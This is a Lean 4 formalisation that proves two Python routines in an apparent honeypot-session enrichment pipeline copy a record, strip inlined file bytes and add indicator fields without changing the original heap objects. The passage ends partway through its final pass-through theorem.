import C2Engine.Pipeline.PassThrough
import C2Engine.Python.Objects

/-!
# The enrichment on objects

`enrich_session` and `_strip_bytes` copy the record and then change the copy in place. Here they are
programs on a heap, in the order of their statements. On a record that is a tree, as a decoded
message is, they return a document that reads as the functions on values say, and no object that was
there before is changed, however they end.

## Main definitions

* `stripFilesAt`, `enrichSessionAt`, `stripBytesAt`: the programs.
* `ReturnsNew`: a program that returns a document and leaves the heap it found as it was.

## Main results

* `stripFilesAt_spec`: the loop over the files.
* `returnsNew_enrichSessionAt`, `returnsNew_stripBytesAt`: the programs.
* `process_passesThrough`: what is passed through.
-/

namespace C2Engine

open Python Heap

variable {h : Heap} {v : Val} {o : Obj} {S : List ℕ}

/-! ### The programs -/

/-- `if isinstance(f, dict): f.pop("content_b64", None)`. -/
def stripAt (f : Val) : Prog Heap Unit := do
  if ← isDict f then dictPop f (key "content_b64") else pure ()

/-- The loop over what `hp.get("files")` returned, or over nothing where it does not count. -/
def stripItemsAt : Option Val → Prog Heap Unit
  | none => pure ()
  | some files => do
    if ← truthy files then
      let items ← iterate files
      Prog.forM items stripAt
    else pure ()

/-- `for f in hp.get("files") or ()`. -/
def stripFilesAt (hp : Val) : Prog Heap Unit := do
  let files ← dictGet hp (key "files")
  stripItemsAt files

/-- `hp = {}; doc["hp_data"] = hp`. -/
def newHpData (doc : Val) : Prog Heap Val := do
  let q ← alloc (.dict [])
  dictSet doc (key "hp_data") (.ref q)
  return .ref q

/-- The envelope `doc.get("hp_data")` returned, or a new one where that is no dictionary. -/
def envelopeAt (doc : Val) : Option Val → Prog Heap Val
  | none => newHpData doc
  | some hp => do if ← isDict hp then pure hp else newHpData doc

/-- The envelope of a document. -/
def hpDataAt (doc : Val) : Prog Heap Val := do
  let hp ← dictGet doc (key "hp_data")
  envelopeAt doc hp

/-- `enrich_session`, given the fields of `_hp_data_fields` and the list `c2_hosts`. -/
def enrichSessionAt (raw : Val) (fields : Items Val) (c2Hosts : Val) (limit : ℕ) :
    Prog Heap Val := do
  let (doc, _) ← deepcopy limit [] raw
  let hp ← hpDataAt doc
  stripFilesAt hp
  dictUpdate hp fields
  dictSet doc (key "c2_host") c2Hosts
  dictSet doc (key "enrich_version") (.atom ⟨.str enrichVersion, trivial⟩)
  return doc

/-- The loop over the files of what `doc.get("hp_data")` returned, if that is a dictionary. -/
def stripEnvelopeAt : Option Val → Prog Heap Unit
  | none => pure ()
  | some hp => do if ← isDict hp then stripFilesAt hp else pure ()

/-- `_strip_bytes`. -/
def stripBytesAt (raw : Val) (limit : ℕ) : Prog Heap Val := do
  let (doc, _) ← deepcopy limit [] raw
  let hp ← dictGet doc (key "hp_data")
  stripEnvelopeAt hp
  return doc

/-! ### The loop over the files -/

theorem eq_map_of_asMap? {d : Dict} (h : o.asMap? = some d) : o = .map d := by
  cases o <;> simp_all [Obj.asMap?]

theorem stripFile_of_asMap? (h : o.asMap? = none) : stripFile o = o := by
  cases o with
  | map d => cases h
  | _ => rfl

/-- One file: its own object is changed, if it is a dictionary. -/
theorem stripAt_spec (hrepr : Repr h v o S) (hnodup : S.Nodup) :
    ∃ h' S', (stripAt v).run h = (.ok (), h') ∧ EditedAt S h h' ∧ Repr h' v (stripFile o) S' ∧
      S'.Sublist S := by
  have hdict := Prog.run_bind_of_ok
    (f := fun b => if b then dictPop v (key "content_b64") else pure ()) (run_isDict hrepr)
  cases ho : o.asMap? with
  | none =>
    rw [ho] at hdict
    refine ⟨h, S, hdict.trans rfl, EditedAt.refl S h, ?_, List.Sublist.refl S⟩
    rwa [stripFile_of_asMap? ho]
  | some d =>
    obtain rfl := eq_map_of_asMap? ho
    obtain ⟨p, es, T, rfl, rfl, -⟩ := repr_map.mp hrepr
    obtain ⟨h', T', hrun, hedit, hpop, hsub⟩ :=
      hrepr.dictPop (List.nodup_cons.mp hnodup).1 (key "content_b64")
    refine ⟨h', p :: T', hdict.trans hrun, hedit.mono ?_, hpop, hsub.cons_cons p⟩
    exact List.cons_subset_cons p (List.nil_subset T)

/-- Immutable values are left alone. -/
theorem run_forM_stripAt (vs : List Val) (hvs : ∀ v ∈ vs, ∃ a, v = .atom a) :
    (Prog.forM vs stripAt).run h = (.ok (), h) := by
  induction vs with
  | nil => rfl
  | cons v vs ih =>
    obtain ⟨a, rfl⟩ := hvs v List.mem_cons_self
    exact (Prog.run_bind_of_ok (m := stripAt (.atom a)) rfl).trans
      (ih fun v hv => hvs v (List.mem_cons_of_mem _ hv))

/-- The elements of an immutable value are immutable. -/
theorem atoms_of_iterate {a : Atom} {items : List Val}
    (hrun : (iterate (.atom a)).run h = (.ok items, h)) : ∀ v ∈ items, ∃ b, v = .atom b := by
  obtain ⟨o, ho⟩ := a
  cases o with
  | str s =>
    obtain rfl := Except.ok.inj (Prod.mk.inj hrun).1
    exact List.forall_mem_map.mpr fun c _ => ⟨_, rfl⟩
  | bytes b =>
    obtain rfl := Except.ok.inj (Prod.mk.inj hrun).1
    exact List.forall_mem_map.mpr fun c _ => ⟨_, rfl⟩
  | ext code data =>
    obtain rfl := Except.ok.inj (Prod.mk.inj hrun).1
    exact List.forall_mem_cons.mpr ⟨⟨_, rfl⟩, List.forall_mem_singleton.mpr ⟨_, rfl⟩⟩
  | _ => cases (Prod.mk.inj hrun).1

theorem nodup_middle {q : ℕ} {A U B : List ℕ} (h : (q :: (A ++ (U ++ B))).Nodup) : U.Nodup :=
  (List.nodup_append.mp (List.nodup_append.mp (List.nodup_cons.mp h).2).2.1).1

/-- What reaches a dictionary or its other values is not what reaches one of its values. -/
theorem notMem_of_nodup {q : ℕ} {A U B : List ℕ} (h : (q :: (A ++ (U ++ B))).Nodup) :
    ∀ a ∈ q :: (A ++ B), a ∉ U := by
  simp only [List.nodup_cons, List.nodup_append, List.mem_append] at h
  grind

/-- **The loop over the files** changes the files of the envelope, or raises as the function on
values does. -/
theorem stripFilesAt_spec {hp : Dict} {q : ℕ} {T : List ℕ}
    (hrepr : Repr h (.ref q) (.map hp) (q :: T)) (hnodup : (q :: T).Nodup) :
    (∃ hp' h' T', stripFiles hp = .ok hp' ∧ (stripFilesAt (.ref q)).run h = (.ok (), h') ∧
      EditedAt T h h' ∧ Repr h' (.ref q) (.map hp') (q :: T') ∧ T'.Sublist T) ∨
    (∃ e, stripFiles hp = .error e ∧ (stripFilesAt (.ref q)).run h = (.error e, h)) := by
  have hunchanged (hpure : stripFiles hp = .ok hp)
      (hrun : (stripFilesAt (.ref q)).run h = (.ok (), h)) :
      ∃ hp' h' T', stripFiles hp = .ok hp' ∧ (stripFilesAt (.ref q)).run h = (.ok (), h') ∧
        EditedAt T h h' ∧ Repr h' (.ref q) (.map hp') (q :: T') ∧ T'.Sublist T :=
    ⟨hp, h, T, hpure, hrun, EditedAt.refl T h, hrepr, List.Sublist.refl T⟩
  cases hget : hp.get (key "files") with
  | none =>
    refine .inl (hunchanged (by rw [stripFiles, hget]) ?_)
    exact (Prog.run_bind_of_ok (hrepr.dictGet_none hget)).trans rfl
  | some files =>
    obtain ⟨x, A, U, B, hrunGet, rfl, hx, hfocus⟩ := hrepr.dictGet_some hget
    have hrun : (stripFilesAt (.ref q)).run h =
        (if files.truthy then iterate x >>= fun items => Prog.forM items stripAt
          else pure ()).run h :=
      (Prog.run_bind_of_ok hrunGet).trans (Prog.run_bind_of_ok (run_truthy hx))
    by_cases htruthy : files.truthy = true
    · rw [if_pos htruthy] at hrun
      -- a loop over immutable values changes nothing
      have hloop {items : List Val} (hiter : (iterate x).run h = (.ok items, h))
          (hitems : ∀ v ∈ items, ∃ a, v = .atom a) :
          (stripFilesAt (.ref q)).run h = (.ok (), h) :=
        hrun.trans ((Prog.run_bind_of_ok hiter).trans (run_forM_stripAt items hitems))
      have hraise (hiter : (iterate x).run h = (.error .typeError, h)) :
          (stripFilesAt (.ref q)).run h = (.error .typeError, h) :=
        hrun.trans (Prog.run_bind_of_error hiter)
      cases files with
      | list os =>
        obtain ⟨r, ps, V, rfl, rfl, hcell, rfl, hps⟩ := repr_list.mp hx
        have hmiddle := notMem_of_nodup hnodup
        obtain ⟨hr, hV⟩ := List.nodup_cons.mp (nodup_middle hnodup)
        obtain ⟨h', V', hrunLoop, hedit, hps', hsub⟩ := hps.loop stripAt_spec hV
        have hx' : Repr h' (.ref r) (.list ((ps.map Prod.snd).map stripFile)) (r :: V') := by
          refine repr_list.mpr ⟨r, ps.map fun p => (p.1, stripFile p.2), V', rfl, rfl, ?_, ?_, hps'⟩
          · rw [hedit r hr, hcell, List.map_map]
            rfl
          · rw [List.map_map, List.map_map]
            rfl
        refine .inl ⟨_, h', A ++ (r :: V' ++ B), by rw [stripFiles, hget]; simp [htruthy], ?_, ?_,
          hfocus ?_ hx', ?_⟩
        · refine hrun.trans ((Prog.run_bind_of_ok ?_).trans hrunLoop)
          exact (Prog.run_bind_of_ok (run_load hcell)).trans rfl
        · exact hedit.mono fun a ha => by simp [ha]
        · exact fun a ha => hedit a fun haV => hmiddle a ha (List.mem_cons_of_mem r haV)
        · exact ((hsub.cons_cons r).append (List.Sublist.refl B)).append_left A
      | map d =>
        obtain ⟨r, es, V, rfl, -, hcell, -, -⟩ := repr_map.mp hx
        refine .inl (hunchanged (by rw [stripFiles, hget]; simp [htruthy]) (hloop
          ((Prog.run_bind_of_ok (run_load hcell)).trans rfl) ?_))
        intro v hv
        obtain ⟨kv, -, rfl⟩ := List.mem_map.mp hv
        cases kv.1 <;> exact ⟨_, rfl⟩
      | str s =>
        obtain rfl := atom_of_repr hx trivial
        exact .inl (hunchanged (by rw [stripFiles, hget]; simp [htruthy])
          (hloop rfl (atoms_of_iterate (h := h) (a := ⟨.str s, trivial⟩) rfl)))
      | bytes b =>
        obtain rfl := atom_of_repr hx trivial
        exact .inl (hunchanged (by rw [stripFiles, hget]; simp [htruthy])
          (hloop rfl (atoms_of_iterate (h := h) (a := ⟨.bytes b, trivial⟩) rfl)))
      | ext code data =>
        obtain rfl := atom_of_repr hx trivial
        exact .inl (hunchanged (by rw [stripFiles, hget]; simp [htruthy])
          (hloop rfl (atoms_of_iterate (h := h) (a := ⟨.ext code data, trivial⟩) rfl)))
      | _ =>
        obtain rfl := atom_of_repr hx trivial
        exact .inr ⟨_, by rw [stripFiles, hget]; simp [htruthy], hraise rfl⟩
    · rw [if_neg htruthy] at hrun
      exact .inl (hunchanged (by simp [stripFiles, hget, htruthy]) hrun)

/-! ### A document and its envelope -/

/-- A document at the address `p` whose envelope is the object at `q`: both are new since `h₀`, the
envelope reads as `hp`, and whatever it becomes, the document has it under `hp_data`. -/
structure DocAt (h₀ h : Heap) (p q : ℕ) (d hp : Dict) (A U B : List ℕ) : Prop where
  extends_heap : h₀ <+: h
  envelope : Repr h (.ref q) (.map hp) (q :: U)
  nodup : (p :: (A ++ (q :: U ++ B))).Nodup
  fresh : ∀ a ∈ p :: (A ++ (q :: U ++ B)), h₀.length ≤ a
  focus : ∀ {h' : Heap} {o' : Obj} {U' : List ℕ}, (∀ a ∈ p :: (A ++ B), h'[a]? = h[a]?) →
    Repr h' (.ref q) o' U' →
      Repr h' (.ref p) (.map (d.set (key "hp_data") o')) (p :: (A ++ (U' ++ B)))

variable {h₀ : Heap} {p q : ℕ} {d hp : Dict} {T A U B : List ℕ}

/-- A new envelope under `hp_data`. -/
theorem newHpData_spec (hrepr : Repr h (.ref p) (.map d) (p :: T)) (hnodup : (p :: T).Nodup)
    (hpre : h₀ <+: h) (hfresh : ∀ a ∈ p :: T, h₀.length ≤ a) :
    ∃ q h' A U B, (newHpData (.ref p)).run h = (.ok (.ref q), h') ∧
      DocAt h₀ h' p q d [] A U B := by
  obtain ⟨hp, -⟩ := List.nodup_cons.mp hnodup
  have hlt : ∀ a ∈ p :: T, a < h.length := hrepr.lt_length
  have hrepr₁ : Repr (h ++ [.dict []]) (.ref p) (.map d) (p :: T) :=
    Holds.mono hrepr (List.prefix_append h _)
  have hnew : Repr (h ++ [.dict []]) (.ref h.length) (.map []) [h.length] := by
    refine repr_map.mpr ⟨h.length, [], [], rfl, rfl, ?_, rfl, .nil⟩
    rw [List.getElem?_append_right le_rfl, Nat.sub_self]
    rfl
  have hne : p ∉ [h.length] := fun hmem =>
    absurd (hlt p List.mem_cons_self) (List.mem_singleton.mp hmem ▸ lt_irrefl _)
  obtain ⟨h', T', hrun, hedit, hrepr', hsub⟩ := hrepr₁.dictSet hp hnew hne (key "hp_data")
  obtain ⟨x, A, U₀, B, hrunGet, rfl, hx, hfocus⟩ := hrepr'.dictGet_some (Dict.get_set_self ..)
  -- what is read under the key is the new object
  obtain rfl : x = .ref h.length := by
    obtain ⟨a, es, T₀, ha, -, hcell, -⟩ := repr_map.mp hrepr₁
    obtain rfl := Val.ref.inj ha
    have hrunSet := run_dictGet_of_dictSet hcell hrun
    exact Option.some.inj (Except.ok.inj (Prod.mk.inj (hrunGet.symm.trans hrunSet)).1)
  obtain ⟨a, es, U, ha, rfl, -⟩ := repr_map.mp hx
  obtain rfl := Val.ref.inj ha
  have hfresh' : ∀ a ∈ T ++ [h.length], h₀.length ≤ a := by
    refine List.forall_mem_append.mpr ⟨(List.forall_mem_cons.mp hfresh).2, ?_⟩
    exact List.forall_mem_singleton.mpr hpre.length_le
  have hnodup' : (T ++ [h.length]).Nodup := by
    refine List.nodup_append.mpr ⟨(List.nodup_cons.mp hnodup).2, List.nodup_singleton _, ?_⟩
    intro a ha b hb heq
    have := hlt a (List.mem_cons_of_mem p ha)
    rw [heq, List.mem_singleton.mp hb] at this
    exact lt_irrefl _ this
  obtain ⟨l, hperm, hsublist⟩ := id hsub
  refine ⟨h.length, h', A, U, B, (Prog.run_bind_of_ok (m := alloc (.dict [])) rfl).trans
    ((Prog.run_bind_of_ok hrun).trans rfl), ?_, hx, ?_, ?_, ?_⟩
  · refine prefix_of_editedAt (hpre.trans (List.prefix_append h _)) hedit ?_
    exact List.forall_mem_singleton.mpr (hfresh p List.mem_cons_self)
  · refine List.nodup_cons.mpr ⟨fun hmem => ?_, hperm.nodup_iff.mp (hsublist.nodup hnodup')⟩
    exact (List.mem_append.mp (hsub.subset hmem)).elim hp hne
  · refine List.forall_mem_cons.mpr ⟨hfresh p List.mem_cons_self, fun a ha => ?_⟩
    exact hfresh' a (hsub.subset ha)
  · intro h'' o' U' hsame ho'
    rw [← Dict.set_set d (key "hp_data") (.map []) o']
    exact hfocus hsame ho'

theorem hpDataAt_spec (hrepr : Repr h (.ref p) (.map d) (p :: T)) (hnodup : (p :: T).Nodup)
    (hpre : h₀ <+: h) (hfresh : ∀ a ∈ p :: T, h₀.length ≤ a) :
    ∃ q h' A U B, (hpDataAt (.ref p)).run h = (.ok (.ref q), h') ∧
      DocAt h₀ h' p q d (hpDataOf d) A U B := by
  cases hget : d.get (key "hp_data") with
  | none =>
    obtain ⟨q, h', A, U, B, hrun, hdoc⟩ := newHpData_spec hrepr hnodup hpre hfresh
    refine ⟨q, h', A, U, B, (Prog.run_bind_of_ok (hrepr.dictGet_none hget)).trans hrun, ?_⟩
    rwa [hpDataOf, hget]
  | some o =>
    obtain ⟨x, A, U, B, hrunGet, rfl, hx, hfocus⟩ := hrepr.dictGet_some hget
    have hrun : (hpDataAt (.ref p)).run h =
        (if o.asMap?.isSome then pure x else newHpData (.ref p)).run h :=
      (Prog.run_bind_of_ok hrunGet).trans (Prog.run_bind_of_ok (run_isDict hx))
    cases ho : o.asMap? with
    | none =>
      obtain ⟨q, h', A, U, B, hrunNew, hdoc⟩ := newHpData_spec hrepr hnodup hpre hfresh
      rw [ho] at hrun
      refine ⟨q, h', A, U, B, hrun.trans hrunNew, ?_⟩
      rwa [hpDataOf, hget, Option.bind_some, ho]
    | some hp =>
      obtain rfl := eq_map_of_asMap? ho
      obtain ⟨q, es, V, rfl, rfl, -⟩ := repr_map.mp hx
      rw [ho] at hrun
      refine ⟨q, h, A, V, B, hrun, ?_⟩
      rw [hpDataOf, hget, Option.bind_some, ho, Option.getD_some]
      exact ⟨hpre, hx, hnodup, hfresh, hfocus⟩

namespace DocAt

/-- The envelope without the inlined bytes. -/
theorem strip (hdoc : DocAt h₀ h p q d hp A U B) :
    (∃ hp' h' U', stripFiles hp = .ok hp' ∧ (stripFilesAt (.ref q)).run h = (.ok (), h') ∧
      DocAt h₀ h' p q d hp' A U' B) ∨
    (∃ e, stripFiles hp = .error e ∧ (stripFilesAt (.ref q)).run h = (.error e, h)) := by
  refine (stripFilesAt_spec hdoc.envelope (nodup_middle hdoc.nodup)).imp ?_ id
  rintro ⟨hp', h', U', hpure, hrun, hedit, hrepr, hsub⟩
  have hsub' : (p :: (A ++ (q :: U' ++ B))).Sublist (p :: (A ++ (q :: U ++ B))) :=
    (((hsub.cons_cons q).append (List.Sublist.refl B)).append_left A).cons_cons p
  refine ⟨hp', h', U', hpure, hrun, ?_⟩
  exact {
    extends_heap := prefix_of_editedAt hdoc.extends_heap hedit fun a ha =>
      hdoc.fresh a (by simp [ha])
    envelope := hrepr
    nodup := hsub'.nodup hdoc.nodup
    fresh := fun a ha => hdoc.fresh a (hsub'.subset ha)
    focus := fun hsame => hdoc.focus fun a ha => (hsame a ha).trans
      (hedit a fun hU => notMem_of_nodup hdoc.nodup a ha (List.mem_cons_of_mem q hU)) }

/-- The fields of the enrichment, whose values were there before: in the envelope, and the two at
the top of the document. -/
theorem finish (hdoc : DocAt h₀ h p q d hp A U B) {fs : Items (Val × Obj)} {F G : List ℕ}
    {hosts : Val} {hostList : Obj} (hfs : Holds h₀ (fs.map Prod.snd) F)
    (hhosts : Repr h₀ hosts hostList G) (version : Atom) :
    ∃ h' S', (dictUpdate (.ref q) (Items.mapVal Prod.fst fs) >>= fun _ =>
        dictSet (.ref p) (key "c2_host") hosts >>= fun _ =>
          dictSet (.ref p) (key "enrich_version") (.atom version) >>= fun _ =>
            pure (Val.ref p)).run h = (.ok (.ref p), h') ∧
      h₀ <+: h' ∧ Repr h' (.ref p) (.map (((d.set (key "hp_data")
        (.map (hp.update (Items.mapVal Prod.snd fs)))).set (key "c2_host") hostList).set
          (key "enrich_version") version.val)) S' := by
  have hnew {a : ℕ} (ha : a ∈ p :: (A ++ (q :: U ++ B))) {W : List ℕ}
    (hW : ∀ b ∈ W, b < h₀.length) :
      a ∉ W := fun hmem => absurd (hdoc.fresh a ha) (by have := hW a hmem; omega)
  have hF := hfs.lt_length
  have hG := Holds.lt_length hhosts
  have hq : q ∈ p :: (A ++ (q :: U ++ B)) := by simp
  have hp₀ : p ∈ p :: (A ++ (q :: U ++ B)) := List.mem_cons_self
  have hqU : q ∉ U := (List.nodup_cons.mp (nodup_middle hdoc.nodup)).1
  have hpRest : p ∉ A ++ (q :: U ++ B) := (List.nodup_cons.mp hdoc.nodup).1
  obtain ⟨h₁, U₁, hrun₁, hedit₁, hrepr₁, hsub₁⟩ :=
    hdoc.envelope.dictUpdate hqU (hfs.mono hdoc.extends_heap) (hnew hq hF)
  have hpre₁ : h₀ <+: h₁ := prefix_of_editedAt hdoc.extends_heap hedit₁
    (List.forall_mem_singleton.mpr (hdoc.fresh q hq))
  have hdoc₁ := hdoc.focus (fun a ha => hedit₁ a fun hmem => notMem_of_nodup hdoc.nodup a ha
    (List.mem_singleton.mp hmem ▸ List.mem_cons_self)) hrepr₁
  have hp₁ : p ∉ A ++ (q :: U₁ ++ B) := by
    intro hmem
    simp only [List.mem_append, List.mem_cons] at hmem hpRest
    have hsub : p ∈ U₁ → p ∈ U ∨ p ∈ F := fun h => List.mem_append.mp (hsub₁.subset h)
    have := hnew hp₀ hF
    grind
  obtain ⟨h₂, T₂, hrun₂, hedit₂, hrepr₂, hsub₂⟩ := hdoc₁.dictSet hp₁
    (Holds.mono hhosts hpre₁) (hnew hp₀ hG) (key "c2_host")
  have hpre₂ : h₀ <+: h₂ := prefix_of_editedAt hpre₁ hedit₂
    (List.forall_mem_singleton.mpr (hdoc.fresh p hp₀))
  have hp₂ : p ∉ T₂ := fun hmem => (List.mem_append.mp (hsub₂.subset hmem)).elim hp₁ (hnew hp₀ hG)
  obtain ⟨h₃, T₃, hrun₃, hedit₃, hrepr₃, -⟩ := hrepr₂.dictSet hp₂
    (repr_atom.mpr ⟨rfl, rfl⟩ : Repr h₂ (.atom version) version.val []) List.not_mem_nil
    (key "enrich_version")
  refine ⟨h₃, p :: T₃, ?_, ?_, hrepr₃⟩
  · refine (Prog.run_bind_of_ok hrun₁).trans ((Prog.run_bind_of_ok hrun₂).trans ?_)
    exact (Prog.run_bind_of_ok hrun₃).trans rfl
  · exact prefix_of_editedAt hpre₂ hedit₃ (List.forall_mem_singleton.mpr (hdoc.fresh p hp₀))

end DocAt

/-! ### What the programs return -/

/-- A program that works on a copy of a document and may run out of calls: however it ends, no
object of the heap it started from is changed, and what it returns reads as the other document. It
ends as the function on values does where there are calls enough to copy the document, and raises
where there are not. -/
def ReturnsNew (m : ℕ → Prog Heap Val) (h : Heap) (raw : Dict) (doc : Except PyExc Dict) : Prop :=
  ∀ limit, h <+: ((m limit).run h).2 ∧
    (∀ v, ((m limit).run h).1 = .ok v →
      ∃ d S, doc = .ok d ∧ Repr ((m limit).run h).2 v (.map d) S) ∧
    (((m limit).run h).1.isOk ↔ (Obj.map raw).copies limit ∧ doc.isOk)

theorem returnsNew_of_copy {raw : Dict} {f : Val → Prog Heap Val} {doc : Except PyExc Dict}
    (hrepr : Repr h v (.map raw) S) (hnodup : S.Nodup)
    (hrest : ∀ {h₁ p T}, h <+: h₁ → Repr h₁ (.ref p) (.map raw) (p :: T) → (p :: T).Nodup →
      (∀ a ∈ p :: T, h.length ≤ a) →
        (∃ d h' w S', doc = .ok d ∧ (f (.ref p)).run h₁ = (.ok w, h') ∧ h <+: h' ∧
          Repr h' w (.map d) S') ∨
        (∃ e h', doc = .error e ∧ (f (.ref p)).run h₁ = (.error e, h') ∧ h <+: h')) :
    ReturnsNew (fun limit => deepcopy limit [] v >>= fun copy => f copy.1) h raw doc := by
  intro limit
  rcases deepcopy_spec hrepr hnodup limit with
    ⟨hcopies, w, memo, h₁, S₁, hrun, hpre, hcopy, hnodup₁, hfresh⟩ | ⟨hcopies, e, h₁, hrun, hpre⟩
  · obtain ⟨p, es, T, rfl, rfl, -⟩ := repr_map.mp hcopy
    have hall : (deepcopy limit [] v >>= fun copy => f copy.1).run h =
        (f (.ref p)).run h₁ := Prog.run_bind_of_ok hrun
    rw [hall]
    rcases hrest hpre hcopy hnodup₁ hfresh with ⟨d, h', w, S', rfl, hrun', hpre', hw⟩ |
      ⟨e, h', rfl, hrun', hpre'⟩
    · rw [hrun']
      refine ⟨hpre', fun v hv => ⟨d, S', rfl, ?_⟩, iff_of_true rfl ⟨hcopies, rfl⟩⟩
      rwa [← Except.ok.inj hv]
    · rw [hrun']
      exact ⟨hpre', nofun, iff_of_false Bool.false_ne_true fun h => Bool.false_ne_true h.2⟩
  · have hall : (deepcopy limit [] v >>= fun copy => f copy.1).run h = (.error e, h₁) :=
      Prog.run_bind_of_error hrun
    rw [hall]
    exact ⟨hpre, nofun, iff_of_false Bool.false_ne_true fun h => hcopies h.1⟩

/-- **`enrich_session` in place** returns the document of `enrichCopy`, and changes nothing that was
there. -/
theorem returnsNew_enrichSessionAt {rt : Runtime} {raw : Dict} {session : SessionIn}
    {ctx : SessionContext} (hrepr : Repr h v (.map raw) S) (hnodup : S.Nodup)
    {fs : Items (Val × Obj)} {F G : List ℕ} {hosts : Val} (hfs : Holds h (fs.map Prod.snd) F)
    (hfields : Items.mapVal Prod.snd fs = hpDataFields rt session ctx)
    (hhosts : Repr h hosts (.strs ctx.iocs.c2Hosts) G) :
    ReturnsNew (enrichSessionAt v (Items.mapVal Prod.fst fs) hosts) h raw
      (enrichCopy rt raw session ctx) := by
  refine returnsNew_of_copy (f := fun doc => hpDataAt doc >>= fun hp => stripFilesAt hp >>=
    fun _ => dictUpdate hp (Items.mapVal Prod.fst fs) >>= fun _ =>
      dictSet doc (key "c2_host") hosts >>= fun _ => dictSet doc (key "enrich_version")
        (.atom ⟨.str enrichVersion, trivial⟩) >>= fun _ => pure doc) hrepr hnodup ?_
  intro h₁ p T hpre hdoc hnodup₁ hfresh
  obtain ⟨q, h₂, A, U, B, hrun, hat⟩ := hpDataAt_spec hdoc hnodup₁ hpre hfresh
  rcases hat.strip with ⟨hp, h₃, U', hstrip, hrunStrip, hat'⟩ | ⟨e, hstrip, hrunStrip⟩
  · obtain ⟨h₄, S', hrunFinish, hpre', hrepr'⟩ :=
      hat'.finish hfs hhosts ⟨.str enrichVersion, trivial⟩
    refine .inl ⟨enrichedDoc rt raw hp session ctx, h₄, .ref p, S',
      enrichCopy_eq_ok.mpr ⟨hp, hstrip, rfl⟩, ?_, hpre', ?_⟩
    · exact (Prog.run_bind_of_ok hrun).trans ((Prog.run_bind_of_ok hrunStrip).trans hrunFinish)
    · rw [hfields] at hrepr'
      exact hrepr'
  · refine .inr ⟨e, h₂, ?_, ?_, hat.extends_heap⟩
    · change (stripFiles (hpDataOf raw) >>= _) = _
      rw [hstrip]
      rfl
    · exact (Prog.run_bind_of_ok hrun).trans (Prog.run_bind_of_error hrunStrip)

/-- **`_strip_bytes` in place** returns the document of `stripCopy`, and changes nothing that was
there. -/
theorem returnsNew_stripBytesAt {raw : Dict} (hrepr : Repr h v (.map raw) S) (hnodup : S.Nodup) :
    ReturnsNew (stripBytesAt v) h raw (stripCopy raw) := by
  refine returnsNew_of_copy (f := fun doc => dictGet doc (key "hp_data") >>= fun hp =>
    stripEnvelopeAt hp >>= fun _ => pure doc) hrepr hnodup ?_
  intro h₁ p T hpre hdoc hnodup₁ hfresh
  -- an envelope that is no dictionary is left alone
  have hkeep (hpure : stripCopy raw = .ok raw)
      (hrun : (dictGet (.ref p) (key "hp_data") >>= fun hp =>
        stripEnvelopeAt hp >>= fun _ => pure (Val.ref p)).run h₁ = (.ok (.ref p), h₁)) :
      ∃ d h' w S', stripCopy raw = .ok d ∧ (dictGet (.ref p) (key "hp_data") >>= fun hp =>
        stripEnvelopeAt hp >>= fun _ => pure (Val.ref p)).run h₁ = (.ok w, h') ∧ h <+: h' ∧
          Repr h' w (.map d) S' :=
    ⟨raw, h₁, Val.ref p, p :: T, hpure, hrun, hpre, hdoc⟩
  cases hget : raw.get (key "hp_data") with
  | none =>
    exact .inl (hkeep (by rw [stripCopy, hget])
      ((Prog.run_bind_of_ok (hdoc.dictGet_none hget)).trans rfl))
  | some o =>
    obtain ⟨x, A, U, B, hrunGet, rfl, hx, hfocus⟩ := hdoc.dictGet_some hget
    have hrun : (stripEnvelopeAt (some x)).run h₁ =
        (if o.asMap?.isSome then stripFilesAt x else pure ()).run h₁ :=
      Prog.run_bind_of_ok (run_isDict hx)
    cases ho : o.asMap? with
    | none =>
      rw [ho] at hrun
      refine .inl (hkeep ?_ ((Prog.run_bind_of_ok hrunGet).trans (Prog.run_bind_of_ok hrun)))
      rw [stripCopy, hget]
      cases o with
      | map d => cases ho
      | _ => rfl
    | some hp =>
      obtain rfl := eq_map_of_asMap? ho
      obtain ⟨q, es, V, rfl, rfl, -⟩ := repr_map.mp hx
      rw [ho] at hrun
      have hat : DocAt h h₁ p q raw hp A V B := ⟨hpre, hx, hnodup₁, hfresh, hfocus⟩
      have hpure : stripCopy raw = (stripFiles hp).map fun hp =>
          raw.set (key "hp_data") (.map hp) := by
        rw [stripCopy, hget]
        change (stripFiles hp >>= _) = _
        cases stripFiles hp <;> rfl
      rcases hat.strip with ⟨hp', h₂, U', hstrip, hrunStrip, hat'⟩ | ⟨e, hstrip, hrunStrip⟩
      · refine .inl ⟨_, h₂, .ref p, _, by rw [hpure, hstrip, Except.map], ?_, hat'.extends_heap,
          hat'.focus (fun _ _ => rfl) hat'.envelope⟩
        exact (Prog.run_bind_of_ok hrunGet).trans (Prog.run_bind_of_ok (hrun.trans hrunStrip))
      · refine .inr ⟨e, h₁, by rw [hpure, hstrip, Except.map], ?_, hpre⟩
        exact (Prog.run_bind_of_ok hrunGet).trans (Prog.run_bind_of_error (hrun.trans hrunStrip))

/-! ### What is passed through -/

/-- **Pass-through**: without the fields of the enrichment, the session document of a stock record
is the document of the fallback, which is the record with `content_b64` taken from its files and
everything else in place; and on objects neither of the two changes the record. -/
theorem process_passesThrough {rt : Runtime} {raw hp : Dict} {geo : Option GeoEnricher}
    {e : Enriched} (hraw : Stock raw hp) (hprocess : process rt raw geo = .ok e) :
    withoutEnrichment e.sessionDoc = dropContent raw ∧
      stripBytes rt raw = .ok (dropContent raw) ∧
      ∃ session ctx, SessionIn.modelValidate rt raw = .ok session ∧
        buildContext rt session = .ok ctx ∧
        ∀ (h : Heap) (v hosts : Val) (fs : Items (Val × Obj)) (S F G : List ℕ),
          Repr h v (.map raw) S → S.Nodup → Holds h (fs.map Prod.snd) F →
          Items.mapVal Prod.snd fs = hpDataFields rt session ctx →
          Repr h hosts (.strs ctx.iocs.c2Hosts) G →
            ReturnsNew (enrichSessionAt v (Items.mapVal Prod.fst fs) hosts) h raw
              (.ok e.sessionDoc) ∧
            ReturnsNew (stripBytesAt v) h raw (.ok (dropContent raw)) := by
  obtain ⟨hwithout, hfallback⟩ := withoutEnrichment_of_process hraw hprocess
  obtain ⟨session, ctx, hp', hvalid, hctx, hstrip, hdoc⟩ := enrichedDoc_of_process hprocess
  have hcopies := Obj.copies_mono rt.enrichCalls_le (copies_of_process hprocess)
  refine ⟨hwithout, stripBytes_eq_ok.mpr ⟨hcopies, hfallback⟩, session, ctx, hvalid, hctx, ?_⟩
  intro h v hosts fs S F G hrepr hnodup hfs hfields hhosts
  have henrich := returnsNew_enrichSessionAt hrepr hnodup hfs hfields hhosts
  rw [enrichCopy_eq_ok.mpr ⟨hp', hstrip, hdoc.symm⟩] at henrich
